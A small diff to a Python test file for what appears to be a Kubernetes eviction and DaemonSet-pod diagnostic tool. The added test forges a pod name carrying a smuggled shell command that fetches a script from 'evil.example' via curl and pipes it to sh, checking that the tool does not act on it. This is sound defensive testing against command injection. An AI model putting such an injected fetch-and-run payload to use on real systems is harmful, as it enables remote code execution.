@@ -162,6 +162,9 @@ def test_an_eviction_is_known_when_its_pod_is_gone() -> None:
     assert "involvedObject.name=linerate-observer-old" in found.remedy
     # another node's is none of this one's
     assert one(seen([play.node("a"), play.node("b")], events=[evicted, of_daemon(FAILED, "FailedDaemonPod")]), "b").reason == "no_pod"
+    # the name of the pod stands in a command, and each kubelet may write events
+    forged = FAILED.replace("linerate-observer-old", "x;curl${IFS}evil.example|sh;#")
+    assert one(seen(events=[evicted, of_daemon(forged, "FailedDaemonPod")])).reason == "no_pod"
 
 
 def test_a_lost_node() -> None:
